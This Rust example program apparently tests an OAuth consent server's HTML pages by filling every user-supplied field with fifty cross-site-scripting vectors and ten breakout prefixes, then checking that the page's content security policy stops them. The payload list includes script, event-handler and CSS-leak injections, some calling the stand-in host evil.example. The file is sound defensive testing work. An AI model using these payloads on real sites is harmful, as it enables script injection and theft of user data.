//! Writes every page with each of five hundred hostile texts in every place where a stranger's words can stand, one JSON
//! line per page, for a browser to be shown:
//! `cargo run -p portcullis-server --example payloads -- /tmp/payloads`

use std::fs::{self, File};
use std::io::{self, BufWriter, Write as _};
use std::path::Path;

use authz::Risk;
use oauth::NameCaution;
use portcullis_server::pages::{
    self, AskForm, ClientStanding, ConnectLine, ConsentPage, ConsentScope, ConsentTool, ErrorPage,
    GoingOnPage, HomePage, HomeServer, ReturningPage, SetupPage, SignInPage, TokenLine,
    TokenMadePage, TokenServer, TokensPage, WaitingClient, WaitingPage,
};
use serde_json::json;
use wire::oauth::RedirectUriKind;

/// What ends the place where the text stands, as far as its writer can guess.
const WAYS_OUT: [&str; 10] = [
    "",
    "\">",
    "'>",
    "</title></textarea></style></script>",
    "--><!--",
    "</bdi></p></code></li>",
    "]]>",
    "\"'><",
    "\" x=\"",
    "&quot;&gt;&#62;",
];

/// What is to happen then. Whatever runs is stopped by the policy of the page, and counted.
const VECTORS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src=//evil.example/pixel>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/leak)>x</p>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<img src='//evil.example/?leak=",
    "<textarea>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    " onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1 ",
    " style=animation-name:x onanimationstart=alert(1) ",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= 7 %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u{0}ipt>\u{2028}alert(1)\u{202e}</scr\u{200b}ipt>",
];

fn main() -> io::Result<()> {
    let folder = std::env::args()
        .nth(1)
        .unwrap_or_else(|| "payloads-out".to_owned());
    let folder = Path::new(&folder);
    fs::create_dir_all(folder.join("assets"))?;
    for asset in pages::assets::all() {
        let path = folder.join(asset.path().trim_start_matches('/'));
        fs::write(path, &asset.bytes)?;
    }
    let mut out = BufWriter::new(File::create(folder.join("pages.ndjson"))?);
    let policies = json!({
        "page": pages::CONTENT_SECURITY_POLICY,
        "going_on": pages::CONTENT_SECURITY_POLICY_GOING_ON,
    });
    writeln!(out, "{policies}")?;
    for way_out in WAYS_OUT {
        for vector in VECTORS {
            let text = format!("{way_out}{vector}");
            for (name, html) in every_page(&text) {
                // A page that leaves at once is not there to be counted.
                let html = html.replace("http-equiv=\"refresh\"", "name=\"refresh\"");
                writeln!(out, "{}", json!({"name": name, "html": html}))?;
            }
        }
    }
    out.flush()
}

fn every_page(text: &str) -> Vec<(&'static str, String)> {
    let mut out = vec![
        ("sign-in", sign_in(text)),
        ("setup", setup(text)),
        ("returning", returning(text, false)),
        ("returning by hand", returning(text, true)),
        ("error", error(text)),
        ("going_on", going_on(text)),
        ("waiting", waiting(text)),
        ("home", home(text)),
        ("tokens", tokens(text)),
        ("token-made", token_made(text)),
    ];
    for kind in [
        RedirectUriKind::Https,
        RedirectUriKind::Loopback,
        RedirectUriKind::PrivateUseScheme,
    ] {
        out.push(("consent", consent(text, kind)));
    }
    out
}

fn sign_in(text: &str) -> String {
    pages::sign_in(&SignInPage {
        server_name: text,
        client_name: text,
        form_action: "/sign-in",
        sealed_request: text,
        csrf: text,
        email: text,
        error: Some(text),
        setup_hint: true,
    })
}

fn setup(text: &str) -> String {
    pages::setup(&SetupPage {
        form_action: "/setup",
        token: text,
        csrf: text,
        email: text,
        error: Some(text),
        password_characters_min: 12,
    })
}

fn consent(text: &str, return_kind: RedirectUriKind) -> String {
    pages::consent(&ConsentPage {
        server_name: text,
        resource: text,
        client_name: text,
        standing: ClientStanding::DocumentOf(text),
        client_logo: None,
        name_caution: Some(NameCaution::LooksLike("Claude")),
        return_host: text,
        return_kind,
        by_hand: true,
        user_name: text,
        user_email: text,
        expected_email: Some(text),
        scopes: vec![ConsentScope {
            name: text,
            title: text,
            risk: Risk::Critical,
            tools: vec![ConsentTool {
                title: text,
                description: text,
            }],
            already_granted: true,
        }],
        withheld: vec![(text, text)],
        form_action: "/servers/todo/authorize",
        sealed_request: text,
        csrf: text,
        switch_account_action: "/sign-out",
        lasts: text,
        remember_note: Some(text),
    })
}

fn returning(text: &str, by_hand: bool) -> String {
    pages::returning(&ReturningPage {
        client_name: text,
        url: &format!("x-app:/cb?code={text}"),
        kind: RedirectUriKind::Loopback,
        denied: false,
        by_hand,
        unknown_host: None,
    })
}

fn error(text: &str) -> String {
    pages::error(&ErrorPage {
        heading: text,
        explanation: text,
        details: &[("Asked for", text.to_owned())],
        what_to_do: text,
        correlation_id: text,
    })
}

fn going_on(text: &str) -> String {
    pages::going_on(&GoingOnPage {
        server_name: text,
        client_name: text,
        return_host: text,
        user_email: text,
        form_action: "/servers/todo/authorize",
        sealed_request: text,
        csrf: text,
        switch_account_action: "/sign-out",
    })
}

fn waiting(text: &str) -> String {
    pages::waiting(&WaitingPage {
        server_name: text,
        client_name: text,
        correlation_id: text,
        looks_again_at: None,
        ask: Some(AskForm {
            form_action: "/servers/todo/authorize",
            sealed_request: text,
            csrf: text,
        }),
    })
}

fn home(text: &str) -> String {
    pages::home(&HomePage {
        user_name: text,
        user_email: text,
        servers: vec![HomeServer {
            name: text,
            slug: text,
            resource: text,
            tools_protected: 1,
            clients: 1,
            connect: vec![ConnectLine {
                client: text,
                command: text,
            }],
        }],
        waiting: vec![WaitingClient {
            server_slug: text,
            server_name: text,
            client_id: text,
            name: text,
            document_host: Some(text),
            redirect_uris: vec![text],
            since: text.to_owned(),
            csrf: text.to_owned(),
        }],
        decide_action: "/admin/clients",
        tokens_path: "/account/tokens",
        note: Some(text),
        sign_out_action: "/sign-out",
        csrf: text,
    })
}

fn tokens(text: &str) -> String {
    pages::tokens(&TokensPage {
        user_name: text,
        user_email: text,
        tokens: vec![TokenLine {
            id: text,
            name: text,
            server_name: text,
            scopes: text.to_owned(),
            expires: text.to_owned(),
            ended: None,
        }],
        servers: vec![TokenServer {
            slug: text,
            name: text,
            scopes: vec![(text, text, Risk::Medium)],
        }],
        error: Some(text),
        create_action: "/account/tokens",
        revoke_action: "/account/tokens/revoke",
        sign_out_action: "/sign-out",
        csrf: text,
        sign_out_csrf: text,
    })
}

fn token_made(text: &str) -> String {
    pages::token_made(&TokenMadePage {
        name: text,
        token: text,
        resource: text,
        expires: text,
        list_path: "/account/tokens",
    })
}
